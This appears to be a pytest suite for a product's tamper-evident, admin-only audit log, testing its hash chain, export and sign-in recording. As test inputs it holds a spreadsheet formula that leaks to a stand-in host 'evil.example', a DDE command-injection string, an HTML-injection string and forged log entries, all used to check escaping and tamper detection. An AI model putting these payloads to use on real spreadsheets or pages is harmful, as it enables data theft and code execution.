"""The audit log: written with the change it records, append-only, hash-chained, readable and
exportable by admins only, and complete for every sign-in and user-management event."""

from __future__ import annotations

import csv
import html
import io
import json
import subprocess
import sys
from urllib.parse import parse_qs, urlsplit

import pytest

from appliance.db import audit_repo, users_repo
from appliance.db.database import DatabaseError
from appliance.db.timefmt import utcnow_iso
from appliance.runtime import open_appliance
from appliance.services import api_keys, audit, users
from appliance.services.audit import Actor
from appliance.services.authz import Principal
from appliance.services.errors import AuthenticationFailed

from .support.access import PASSWORD, add_user, login
from .support.appliance import make_config, serve_env

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


# -- helpers --------------------------------------------------------------------------------

def last_id(app) -> int:
    return app.db.connection().execute("SELECT coalesce(max(id), 0) FROM audit_log").fetchone()[0]


def rows_after(app, mark: int) -> list[dict]:
    rows = app.db.connection().execute("SELECT * FROM audit_log WHERE id > ? ORDER BY id", (mark,))
    return [audit.to_dict(r) for r in rows]


def only_row_after(app, mark: int) -> dict:
    rows = rows_after(app, mark)
    assert len(rows) == 1, [r["action"] for r in rows]
    return rows[0]


def seed(app, monkeypatch, entries) -> list[int]:
    """Entries at chosen times: (at, actor label, action, metadata)."""
    ids = []
    for at, label, action, metadata in entries:
        with monkeypatch.context() as m:
            m.setattr(audit, "utcnow_iso", lambda at=at: at)
            ids.append(audit.record_now(app.db, Actor("system", None, label, "192.0.2.1"), action,
                                        target_type="thing", target_id=len(ids) + 1, metadata=metadata))
    return ids


def raw(app):
    """A raw connection to the real database, as an attacker holding the key would have."""
    return app.db.connection()


def drop_triggers(app) -> None:
    raw(app).execute("DROP TRIGGER audit_log_no_update")
    raw(app).execute("DROP TRIGGER audit_log_no_delete")


def run_cli(root, *args) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "appliance.cli", *args], env=serve_env(root),
                          capture_output=True, text=True, timeout=60)


def walk_api(client, headers, **params) -> list[dict]:
    items, cursor = [], None
    while True:
        query = dict(params, **({"cursor": cursor} if cursor else {}))
        r = client.get("/api/v1/audit-log", query_string=query, headers=headers)
        assert r.status_code == 200, r.get_json()
        body = r.get_json()
        items += body["items"]
        cursor = body["next_cursor"]
        if cursor is None:
            return items


@pytest.fixture
def team(appliance, web):
    """owner, admin, member, viewer, each with a Bearer session token."""
    for name in ("owner", "admin", "member", "viewer"):
        add_user(appliance, f"{name}@x.test", role=name)
    ids = {r["email"].split("@")[0]: r["id"] for r in users_repo.list_page(appliance.db.connection())}
    headers = {name: login(web.test_client(), f"{name}@x.test").headers(bearer=True) for name in ids}
    return ids, headers


# -- same transaction -----------------------------------------------------------------------

def test_an_audit_row_commits_with_its_change_and_rolls_back_with_it(appliance):
    db = appliance.db
    before = last_id(appliance)
    with pytest.raises(RuntimeError, match="boom"):
        with db.transaction() as conn:
            users_repo.insert(conn, email="ghost@x.test", name="", role="member", status="active",
                              password_hash=None, now=utcnow_iso())
            audit.record(conn, Actor.system(), "user.created", target_type="user", target_id=1)
            raise RuntimeError("boom")
    assert users_repo.by_email(db.connection(), "ghost@x.test") is None
    assert last_id(appliance) == before

    with pytest.raises(RuntimeError, match="inside the transaction"):
        audit.record(db.connection(), Actor.system(), "nothing.outside")
    assert last_id(appliance) == before


def test_a_failing_audit_write_undoes_the_change(appliance, monkeypatch):
    admin = add_user(appliance, "admin@x.test", role="admin")
    member = add_user(appliance, "member@x.test", role="member")
    principal = Principal(admin, "admin@x.test", "admin", "session")
    version = users_repo.by_id(appliance.db.connection(), member)["token_version"]

    def refuse(conn, entry):
        raise DatabaseError("disk full")

    monkeypatch.setattr(audit_repo, "insert", refuse)
    with pytest.raises(DatabaseError):
        users.update(appliance.db, principal, member, role="viewer")
    row = users_repo.by_id(appliance.db.connection(), member)
    assert row["role"] == "member" and row["token_version"] == version

    monkeypatch.undo()
    users.update(appliance.db, principal, member, role="viewer")
    last = audit.search(appliance.db, limit=1)[0]
    assert last["action"] == "user.role_changed" and last["target"] == {"type": "user", "id": str(member)}


# -- append-only ----------------------------------------------------------------------------

def test_triggers_refuse_update_and_delete(appliance, monkeypatch):
    ids = seed(appliance, monkeypatch, [("2024-01-01T00:00:00Z", "a", "x.one", {}),
                                        ("2024-01-02T00:00:00Z", "b", "x.two", {})])
    before = [dict(r) for r in raw(appliance).execute("SELECT * FROM audit_log ORDER BY id")]
    for sql in ("UPDATE audit_log SET action = 'x.nothing' WHERE id = ?",
                "UPDATE audit_log SET metadata = '{}', hash = hash WHERE id = ?",
                "DELETE FROM audit_log WHERE id = ?"):
        with pytest.raises(DatabaseError, match="append-only"):
            raw(appliance).execute(sql, (ids[0],))
    with pytest.raises(DatabaseError, match="append-only"):
        raw(appliance).execute("DELETE FROM audit_log")
    assert [dict(r) for r in raw(appliance).execute("SELECT * FROM audit_log ORDER BY id")] == before
    assert audit.verify(appliance.db).ok


# -- hash chain and `mailflow audit verify` -----------------------------------------------------

def forge(app, *, row_id: int, prev_hash: str, action: str = "auth.login") -> None:
    """Insert a self-consistent entry (its own hash is right) chained to `prev_hash`."""
    entry = {"at": "2024-01-03T12:00:00Z", "actor_type": "user", "actor_id": 1, "actor_label": "mallory@x.test",
             "ip": "198.51.100.66", "action": action, "target_type": None, "target_id": None, "metadata": "{}",
             "prev_hash": prev_hash}
    entry["hash"] = audit.entry_hash(prev_hash, entry)
    raw(app).execute("INSERT INTO audit_log (id, at, actor_type, actor_id, actor_label, ip, action, target_type, "
                     "target_id, metadata, prev_hash, hash) VALUES (?,?,?,?,?,?,?,?,?,?,?,?)",
                     (row_id, *(entry[c] for c in audit_repo.COLUMNS)))


def hash_of(app, row_id: int) -> str:
    return raw(app).execute("SELECT hash FROM audit_log WHERE id = ?", (row_id,)).fetchone()[0]


TAMPERING = {
    # name: (what the attacker does, the entry id verify must name, words of the problem)
    "edited": (lambda app, ids: raw(app).execute(
        "UPDATE audit_log SET metadata = '{\"reason\":\"nothing to see\"}' WHERE id = ?", (ids[2],)),
        2, "was modified"),
    "edited_actor": (lambda app, ids: raw(app).execute(
        "UPDATE audit_log SET actor_label = 'someone@else.test' WHERE id = ?", (ids[4],)), 4, "was modified"),
    "removed": (lambda app, ids: raw(app).execute("DELETE FROM audit_log WHERE id = ?", (ids[2],)),
                2, "missing"),
    "removed_first": (lambda app, ids: raw(app).execute("DELETE FROM audit_log WHERE id = ?", (ids[0],)),
                      1, "does not follow"),
    "inserted": (lambda app, ids: forge(app, row_id=ids[-1] + 1, prev_hash=hash_of(app, ids[1])),
                 5, "does not follow"),
    "replaced": (lambda app, ids: (raw(app).execute("DELETE FROM audit_log WHERE id = ?", (ids[2],)),
                                   forge(app, row_id=ids[2], prev_hash=hash_of(app, ids[1]))),
                 3, "does not follow"),
}


@pytest.mark.parametrize("case", TAMPERING)
def test_the_chain_names_the_tampered_entry(appliance, root, monkeypatch, case):
    ids = seed(appliance, monkeypatch, [(f"2024-01-0{n + 1}T00:00:00Z", f"actor{n}", "x.event", {"n": n})
                                        for n in range(5)])
    intact = audit.verify(appliance.db)
    assert (intact.ok, intact.checked, intact.head) == (True, len(ids), hash_of(appliance, ids[-1]))
    tamper, index, words = TAMPERING[case]
    drop_triggers(appliance)
    tamper(appliance, ids)
    expected_id = (ids + [ids[-1] + 1])[index]  # the forged entry of "inserted" comes after the last

    result = audit.verify(appliance.db)
    assert not result.ok and words in result.problem
    assert result.problem.split()[1] in (str(expected_id), f"{expected_id}..{expected_id}")  # entry/entries

    cli = run_cli(root, "audit", "verify")
    assert cli.returncode == 1, cli.stdout + cli.stderr
    assert result.problem in cli.stderr and "Traceback" not in cli.stderr
    assert "audit log OK" not in cli.stdout


def test_cli_passes_an_untouched_log(appliance, root, monkeypatch):
    assert run_cli(root, "audit", "verify").stdout.startswith(f"audit log OK: 0 entries verified; head {'0' * 64}")
    seed(appliance, monkeypatch, [("2024-01-01T00:00:00Z", "a", "x.one", {"k": "v"}),
                                  ("2024-01-02T00:00:00Z", "b", "x.two", {})])
    add_user(appliance, "admin@x.test", role="admin")
    users.authenticate(appliance.db, "admin@x.test", PASSWORD, "127.0.0.1")
    with pytest.raises(AuthenticationFailed):
        users.authenticate(appliance.db, "admin@x.test", "not the password", "127.0.0.1")
    cli = run_cli(root, "audit", "verify")
    assert cli.returncode == 0, cli.stderr
    head = audit.anchor(appliance.db)["head"]
    assert cli.stdout.splitlines()[0] == f"audit log OK: {last_id(appliance)} entries verified; head {head}"


def test_cli_without_a_migrated_database_is_a_config_error(root):
    cli = run_cli(root, "audit", "verify")
    assert cli.returncode == 78
    assert cli.stderr.startswith("mailflow: ") and "mailflow migrate" in cli.stderr
    open_appliance(make_config(root), create=True, env={}, apply_migrations=False).close()
    cli = run_cli(root, "audit", "verify")
    assert cli.returncode == 78 and "Traceback" not in cli.stderr
    assert cli.stderr.strip() == "mailflow: the database schema is not up to date; run `mailflow migrate` first"


# -- GET /api/v1/audit-log ------------------------------------------------------------------

SEEDED = [
    ("2024-03-01T08:00:00Z", "alice@x.test", "user.invited", {"email": "n1@x.test"}),
    ("2024-03-01T09:30:00Z", "bob@x.test", "auth.login", {"method": "password"}),
    ("2024-03-02T10:00:00Z", "alice@x.test", "user.role_changed", {"role": {"from": "member", "to": "viewer"}}),
    ("2024-03-03T11:00:00Z", "alice@x.test", "user.disabled", {}),
    ("2024-03-04T12:00:00Z", "bob@x.test", "api_key.created", {"name": "ci"}),
    ("2024-03-05T13:00:00Z", "carol@x.test", "user.invited", {"email": "n2@x.test"}),
    ("2024-03-06T14:00:00Z", "alice@x.test", "auth.logout", {}),
]


def actions(items) -> list[str]:
    return [e["action"] for e in items]


def test_api_filters_and_newest_first(appliance, web, team, monkeypatch):
    _, h = team
    ids = seed(appliance, monkeypatch, SEEDED)
    c = web.test_client()
    get = lambda **q: c.get("/api/v1/audit-log", query_string=q, headers=h["admin"])  # noqa: E731

    body = get().get_json()
    assert [e["id"] for e in body["items"]] == sorted((e["id"] for e in body["items"]), reverse=True)
    assert actions(body["items"]) == [e[2] for e in reversed(SEEDED)] + ["auth.login"] * 4  # + the team's sign-ins
    assert body["next_cursor"] is None
    entry = next(e for e in body["items"] if e["id"] == ids[2])
    assert entry == {"id": ids[2], "at": "2024-03-02T10:00:00Z",
                     "actor": {"type": "system", "id": None, "label": "alice@x.test"}, "ip": "192.0.2.1",
                     "action": "user.role_changed", "target": {"type": "thing", "id": "3"},
                     "metadata": {"role": {"from": "member", "to": "viewer"}}}

    assert actions(get(action="user.invited").get_json()["items"]) == ["user.invited", "user.invited"]
    assert actions(get(action="user.").get_json()["items"]) == [
        "user.invited", "user.disabled", "user.role_changed", "user.invited"]
    assert get(action="user").get_json()["items"] == []  # exact unless it ends with a dot
    assert actions(get(actor="bob@x.test").get_json()["items"]) == ["api_key.created", "auth.login"]
    assert actions(get(actor="alice@x.test", action="user.").get_json()["items"]) == [
        "user.disabled", "user.role_changed", "user.invited"]
    # since is inclusive, until exclusive; a bare date as until includes that day; offsets count
    assert actions(get(since="2024-03-05T13:00:00Z", until="2024-03-06T14:00:00Z").get_json()["items"]) == [
        "user.invited"]
    assert actions(get(since="2024-03-01", until="2024-03-01").get_json()["items"]) == ["auth.login", "user.invited"]
    assert actions(get(since="2024-03-01T10:30:00+01:00", until="2024-03-03").get_json()["items"]) == [
        "user.disabled", "user.role_changed", "auth.login"]
    assert actions(get(until="2024-03-01T09:00").get_json()["items"]) == ["user.invited"]
    assert len(get(since="2024-03-02").get_json()["items"]) == 5 + 4  # and the team's sign-ins of today


def test_api_pagination_with_cursor(appliance, web, team, monkeypatch):
    _, h = team
    seed(appliance, monkeypatch, SEEDED)
    c = web.test_client()
    everything = c.get("/api/v1/audit-log", query_string={"limit": 500}, headers=h["admin"]).get_json()["items"]
    first = c.get("/api/v1/audit-log", query_string={"limit": 3, "actor": "alice@x.test"},
                  headers=h["admin"]).get_json()
    assert len(first["items"]) == 3 and first["next_cursor"] == str(first["items"][-1]["id"])
    second = c.get("/api/v1/audit-log", query_string={"limit": 3, "actor": "alice@x.test",
                                                       "cursor": first["next_cursor"]}, headers=h["admin"]).get_json()
    assert actions(second["items"]) == ["user.invited"] and second["next_cursor"] is None
    assert walk_api(c, h["admin"], limit=2) == everything
    assert len(everything) == len(SEEDED) + 4  # and the team's four sign-ins
    # an exact last page says so: no cursor to an empty page
    exact = c.get("/api/v1/audit-log", query_string={"limit": len(everything)}, headers=h["admin"]).get_json()
    assert exact["next_cursor"] is None


@pytest.mark.parametrize("query, field", [
    ({"since": "yesterday"}, "since"),
    ({"until": "2024-13-01"}, "until"),
    ({"since": "2024-03-01T25:00:00Z"}, "since"),
    ({"since": "2024-03-02", "until": "2024-03-01T12:00:00Z"}, "until"),
    ({"limit": "0"}, "limit"),
    ({"limit": "501"}, "limit"),
    ({"cursor": "abc"}, "limit"),
    ({"action": "x" * 400}, "action"),
])
def test_api_rejects_bad_filters_in_the_error_format(web, team, query, field):
    _, h = team
    for path in ("/api/v1/audit-log", "/api/v1/audit-log/export"):
        if path.endswith("export") and field == "limit":
            continue
        r = web.test_client().get(path, query_string=query, headers=h["admin"])
        assert r.status_code == 400 and r.is_json, r.data[:200]
        error = r.get_json()["error"]
        assert error["code"] == "validation_failed" and error["message"]
        assert field in error["details"]["fields"]


def test_only_admins_read_the_log(appliance, web, team):
    ids, h = team
    c = web.test_client()
    for path in ("/api/v1/audit-log", "/api/v1/audit-log/export?format=json"):
        assert c.get(path).status_code == 401
        assert c.get(path).get_json()["error"]["code"] == "unauthenticated"
        assert c.get(path, headers=h["viewer"]).status_code == 403
        r = c.get(path, headers=h["member"])
        assert r.status_code == 403 and r.get_json()["error"]["code"] == "role_required"
        assert c.get(path, headers=h["admin"]).status_code == 200
        assert c.get(path, headers=h["owner"]).status_code == 200

    admin = Principal(ids["admin"], "admin@x.test", "admin", "session")
    read_only = api_keys.create(appliance.db, admin, name="dashboards", scopes=["read"], cost=12)["key"]
    full = api_keys.create(appliance.db, admin, name="siem", scopes=["read", "admin"], cost=12)["key"]
    r = c.get("/api/v1/audit-log", headers={"Authorization": f"Bearer {read_only}"})
    assert r.status_code == 403 and r.get_json()["error"]["code"] == "scope_required"
    assert c.get("/api/v1/audit-log/export", headers={"Authorization": f"Bearer {read_only}"}).status_code == 403
    assert c.get("/api/v1/audit-log", headers={"Authorization": f"Bearer {full}"}).status_code == 200
    # a member's key cannot read it whatever its scopes
    member = Principal(ids["member"], "member@x.test", "member", "session")
    member_key = api_keys.create(appliance.db, member, name="m", scopes=["read", "write"], cost=12)["key"]
    assert c.get("/api/v1/audit-log", headers={"Authorization": f"Bearer {member_key}"}).status_code == 403


# -- export -----------------------------------------------------------------------------------

def test_csv_export_escapes_spreadsheet_formulas(appliance, web, team, monkeypatch):
    _, h = team
    c = web.test_client()
    evil = '=HYPERLINK("http://evil.example/?leak","open")@x.com'
    r = c.post("/api/v1/auth/login", json={"email": evil, "password": "not the password"})
    assert r.status_code == 401
    label = users.normalize_email(evil)  # failed sign-ins are logged under the email as typed, lower-cased
    seed(appliance, monkeypatch, [("2024-03-01T08:00:00Z", "+cmd|' /C calc'!A0", "x.formula",
                                   {"note": "=1+1", "list": ["@SUM(A1)"]})])
    mark = last_id(appliance)

    r = c.get("/api/v1/audit-log/export", query_string={"format": "csv"}, headers=h["admin"])
    assert r.status_code == 200 and r.mimetype == "text/csv"
    assert r.headers["Content-Disposition"].startswith("attachment; filename=")
    assert r.headers["Content-Disposition"].endswith('.csv"')
    assert r.headers["Cache-Control"] == "no-store"
    rows = list(csv.reader(io.StringIO(r.get_data(as_text=True))))
    header, body = rows[0], rows[1:]
    assert header == ["id", "at", "actor_type", "actor", "ip", "action", "target_type", "target_id", "metadata"]
    assert len(body) == mark  # everything before the export's own entry
    assert not [cell for row in body for cell in row if cell.startswith(FORMULA_START)]
    failed = next(dict(zip(header, row)) for row in body if row[5] == "auth.login_failed")
    assert failed["actor"] == "'" + label and failed["actor_type"] == "anonymous"
    assert json.loads(failed["metadata"]) == {"reason": "bad_credentials"}
    formula = next(dict(zip(header, row)) for row in body if row[5] == "x.formula")
    assert formula["actor"] == "'+cmd|' /C calc'!A0"
    assert json.loads(formula["metadata"]) == {"list": ["@SUM(A1)"], "note": "=1+1"}

    exported = only_row_after(appliance, mark)
    assert exported["action"] == "audit.exported" and exported["actor"]["label"] == "admin@x.test"
    assert exported["actor"]["type"] == "user" and exported["ip"] == "127.0.0.1"
    assert exported["metadata"] == {"format": "csv", "filters": {}}


def test_json_export_round_trips_and_keeps_the_filters(appliance, web, team, monkeypatch):
    _, h = team
    seed(appliance, monkeypatch, SEEDED)
    c = web.test_client()
    listed = walk_api(c, h["admin"], limit=2)
    r = c.get("/api/v1/audit-log/export", query_string={"format": "json"}, headers=h["admin"])
    assert r.status_code == 200 and r.mimetype == "application/json"
    assert r.headers["Content-Disposition"].endswith('.json"')
    doc = json.loads(r.get_data(as_text=True))
    assert doc["items"] == listed and doc["filters"] == {}
    assert doc["exported_at"].endswith("Z")

    mark = last_id(appliance)
    query = {"format": "json", "action": "user.", "actor": "alice@x.test", "since": "2024-03-01T08:00:00Z",
             "until": "2024-03-03"}
    filtered = json.loads(c.get("/api/v1/audit-log/export", query_string=query, headers=h["admin"]).data)
    assert filtered["items"] == walk_api(c, h["admin"], **{k: v for k, v in query.items() if k != "format"})
    assert actions(filtered["items"]) == ["user.disabled", "user.role_changed", "user.invited"]
    assert filtered["filters"] == {"action": "user.", "actor": "alice@x.test", "since": "2024-03-01T08:00:00Z",
                                   "until": "2024-03-04T00:00:00Z"}
    exported = only_row_after(appliance, mark)
    assert exported["action"] == "audit.exported"
    assert exported["metadata"] == {"format": "json", "filters": filtered["filters"]}

    # the first export is itself in the next one
    again = json.loads(c.get("/api/v1/audit-log/export?format=json", headers=h["admin"]).data)
    assert [e["action"] for e in again["items"][:2]] == ["audit.exported", "audit.exported"]


def test_refused_exports_record_nothing(appliance, web, team):
    _, h = team
    mark = last_id(appliance)
    c = web.test_client()
    assert c.get("/api/v1/audit-log/export?format=xlsx", headers=h["admin"]).status_code == 400
    assert c.get("/api/v1/audit-log/export?format=csv&since=soon", headers=h["admin"]).status_code == 400
    assert c.get("/api/v1/audit-log/export?format=csv", headers=h["member"]).status_code == 403
    assert rows_after(appliance, mark) == []


def test_export_reads_every_match_in_batches(appliance, monkeypatch):
    ids = seed(appliance, monkeypatch, [(f"2024-04-{d:02d}T00:00:00Z", "a" if d % 3 else "b", "x.e", {"d": d})
                                        for d in range(1, 24)])
    everything = list(audit.iter_entries(appliance.db, batch=4))
    assert [e["id"] for e in everything] == ids[::-1]
    only_b = list(audit.iter_entries(appliance.db, batch=2, actor="b"))
    assert [e["metadata"]["d"] for e in only_b] == [21, 18, 15, 12, 9, 6, 3]
    assert list(audit.iter_entries(appliance.db, batch=5, before_id=ids[3])) == everything[-3:]


# -- the admin page ---------------------------------------------------------------------------

def test_audit_page_for_admins(appliance, web, team, monkeypatch):
    seed(appliance, monkeypatch, [(f"2024-05-01T{n // 60:02d}:{n % 60:02d}:00Z", f"bot{n % 2}@x.test",
                                   "x.page", {"n": n}) for n in range(60)])
    c = web.test_client()
    login(c, "admin@x.test")  # cookie session
    r = c.get("/settings/audit-log")
    assert r.status_code == 200 and b'id="audit-table"' in r.data
    page = r.get_data(as_text=True)
    assert 'href="/settings/audit-log"' in page and ">Audit log</a>" in page  # nav, admin section
    assert page.count("<tr data-entry-id=") == 50
    assert "auth.login" in page and "127.0.0.1" in page
    older = page.split('id="older-page" rel="next">')[0].rsplit('href="', 1)[1].split('"')[0]
    assert older.startswith("/settings/audit-log?cursor=")
    rest = c.get(older.replace("&amp;", "&")).get_data(as_text=True)
    assert rest.count("<tr data-entry-id=") == 60 + 5 - 50  # + the team's sign-ins and this admin's
    assert 'id="older-page"' not in rest and 'id="newest-page"' in rest
    assert 'href="/api/v1/audit-log/export?format=csv"' in page
    assert 'href="/api/v1/audit-log/export?format=json"' in page

    filtered = c.get("/settings/audit-log", query_string={"actor": "bot1@x.test", "since": "2024-05-01T00:30"})
    text = filtered.get_data(as_text=True)
    assert filtered.status_code == 200 and text.count("<tr data-entry-id=") == 15
    assert 'value="bot1@x.test"' in text and 'value="2024-05-01T00:30"' in text
    assert 'id="older-page"' not in text
    for fmt in ("csv", "json"):  # export links keep the filters
        link = urlsplit(html.unescape(text.split(f'id="export-{fmt}"')[0].rsplit('href="', 1)[1].split('"')[0]))
        assert link.path == "/api/v1/audit-log/export"
        assert parse_qs(link.query) == {"format": [fmt], "actor": ["bot1@x.test"], "since": ["2024-05-01T00:30"]}
    # the export link works with the cookie session (a GET needs no CSRF token)
    assert len(json.loads(c.get(link.path + "?" + link.query).data)["items"]) == 15

    bad = c.get("/settings/audit-log", query_string={"since": "last tuesday"})
    assert bad.status_code == 400
    assert b'value="last tuesday"' in bad.data and b"ISO 8601" in bad.data and b'aria-invalid="true"' in bad.data


def test_audit_page_escapes_what_attackers_type(appliance, web, team):
    c = web.test_client()
    c.post("/api/v1/auth/login", json={"email": "<img src=x>@x.test", "password": "wrong wrong wrong"})
    login(c, "admin@x.test")
    page = c.get("/settings/audit-log").get_data(as_text=True)
    assert "<img src=x>" not in page and "&lt;img src=x&gt;@x.test" in page


def test_audit_page_access(web, team):
    anonymous = web.test_client().get("/settings/audit-log?action=user.")
    assert anonymous.status_code == 302
    location = urlsplit(anonymous.headers["Location"])
    assert location.path == "/login" and parse_qs(location.query)["next"] == ["/settings/audit-log?action=user."]
    for name in ("member", "viewer"):
        c = web.test_client()
        login(c, f"{name}@x.test")
        assert c.get("/settings/audit-log").status_code == 403
        assert b"Audit log</a>" not in c.get("/profile").data
    c = web.test_client()
    login(c, "owner@x.test")
    assert c.get("/settings/audit-log").status_code == 200


# -- what gets recorded -----------------------------------------------------------------------

IP = "203.0.113.9"


@pytest.fixture
def from_ip(web):
    client = web.test_client()
    client.environ_base["REMOTE_ADDR"] = IP
    return client


def test_sign_in_success_and_failures_are_recorded(appliance, from_ip):
    uid = add_user(appliance, "ann@x.test", role="member")
    disabled = add_user(appliance, "dis@x.test", role="member", status="disabled")

    mark = last_id(appliance)
    assert from_ip.post("/api/v1/auth/login", json={"email": "Ann@X.test", "password": PASSWORD}).status_code == 200
    row = only_row_after(appliance, mark)
    assert row["action"] == "auth.login" and row["ip"] == IP
    assert row["actor"] == {"type": "user", "id": uid, "label": "ann@x.test"}
    assert row["target"] == {"type": "user", "id": str(uid)} and row["metadata"] == {"method": "password"}

    for email, password, target, reason in (
            ("ann@x.test", "wrong password here", str(uid), "bad_credentials"),
            ("nobody@x.test", PASSWORD, None, "bad_credentials"),
            ("dis@x.test", PASSWORD, str(disabled), "user_disabled")):
        mark = last_id(appliance)
        assert from_ip.post("/api/v1/auth/login", json={"email": email, "password": password}).status_code == 401
        row = only_row_after(appliance, mark)
        assert row["action"] == "auth.login_failed" and row["ip"] == IP
        assert row["actor"] == {"type": "anonymous", "id": None, "label": email}
        assert (row["target"] or {}).get("id") == target
        assert row["metadata"] == {"reason": reason}
        assert PASSWORD not in json.dumps(row) and "wrong password" not in json.dumps(row)


def test_logout_and_password_change_are_recorded(appliance, from_ip):
    uid = add_user(appliance, "ann@x.test", role="viewer")
    session = login(from_ip, "ann@x.test")

    mark = last_id(appliance)
    r = from_ip.post("/api/v1/auth/password", json={"current_password": "not it at all", "new_password": "x" * 20},
                     headers=session.headers())
    assert r.status_code == 400
    row = only_row_after(appliance, mark)
    assert (row["action"], row["ip"], row["actor"]["id"]) == ("auth.password_change_failed", IP, uid)

    mark = last_id(appliance)
    new_password = "a brand new passphrase"
    r = from_ip.post("/api/v1/auth/password", json={"current_password": PASSWORD, "new_password": new_password},
                     headers=session.headers())
    assert r.status_code == 200, r.get_json()
    row = only_row_after(appliance, mark)
    assert row["action"] == "auth.password_changed" and row["ip"] == IP
    assert row["actor"] == {"type": "user", "id": uid, "label": "ann@x.test"}
    assert row["target"] == {"type": "user", "id": str(uid)} and row["metadata"] == {}
    assert new_password not in json.dumps(rows_after(appliance, 0))

    mark = last_id(appliance)
    r = from_ip.post("/api/v1/auth/logout", headers={"Authorization": f"Bearer {r.get_json()['token']}"})
    assert r.status_code == 200
    row = only_row_after(appliance, mark)
    assert row["action"] == "auth.logout" and row["ip"] == IP
    assert row["actor"] == {"type": "user", "id": uid, "label": "ann@x.test"}
    assert row["target"] == {"type": "user", "id": str(uid)} and row["metadata"] == {}


def test_invite_role_change_and_disable_are_recorded(appliance, from_ip):
    admin = add_user(appliance, "boss@x.test", role="admin")
    member = add_user(appliance, "mem@x.test", role="member")
    h = login(from_ip, "boss@x.test").headers(bearer=True)
    actor = {"type": "user", "id": admin, "label": "boss@x.test"}

    mark = last_id(appliance)
    r = from_ip.post("/api/v1/users", json={"email": "New@X.test", "role": "viewer"}, headers=h)
    assert r.status_code == 201
    row = only_row_after(appliance, mark)
    assert (row["action"], row["actor"], row["ip"]) == ("user.invited", actor, IP)
    assert row["target"] == {"type": "user", "id": str(r.get_json()["id"])}
    assert row["metadata"] == {"email": "new@x.test", "role": "viewer"}

    mark = last_id(appliance)
    assert from_ip.patch(f"/api/v1/users/{member}", json={"role": "viewer"}, headers=h).status_code == 200
    row = only_row_after(appliance, mark)
    assert (row["action"], row["actor"], row["ip"]) == ("user.role_changed", actor, IP)
    assert row["target"] == {"type": "user", "id": str(member)}
    assert row["metadata"] == {"role": {"from": "member", "to": "viewer"}}

    mark = last_id(appliance)
    assert from_ip.patch(f"/api/v1/users/{member}", json={"status": "disabled"}, headers=h).status_code == 200
    row = only_row_after(appliance, mark)
    assert (row["action"], row["actor"], row["ip"]) == ("user.disabled", actor, IP)
    assert row["metadata"] == {"status": {"from": "active", "to": "disabled"}}

    # a refused change records nothing
    mark = last_id(appliance)
    assert from_ip.patch(f"/api/v1/users/{admin}", json={"status": "disabled"}, headers=h).status_code == 403
    assert rows_after(appliance, mark) == []
    assert audit.verify(appliance.db).ok


def test_the_anchor_names_the_head_that_truncation_would_lose(appliance, monkeypatch):
    """Removing the newest entries leaves a valid chain, but one whose head differs from the
    anchor the service already wrote to its log."""
    from appliance.services import maintenance
    for i in range(3):
        audit.record_now(appliance.db, Actor.system(), "test.event", metadata={"n": i})
    anchored = audit.anchor(appliance.db)
    assert anchored == {"last_id": 3, "head": audit.verify(appliance.db).head}
    events = []
    monkeypatch.setattr(maintenance, "event", lambda log, name, **fields: events.append((name, fields)))
    maintenance.log_audit_anchor(appliance)
    assert events == [("audit.anchor", anchored)]
    conn = appliance.db.connection()
    conn.execute("DROP TRIGGER audit_log_no_delete")
    conn.execute("DELETE FROM audit_log WHERE id = 3")
    truncated = audit.verify(appliance.db)
    assert truncated.ok and truncated.head != anchored["head"]
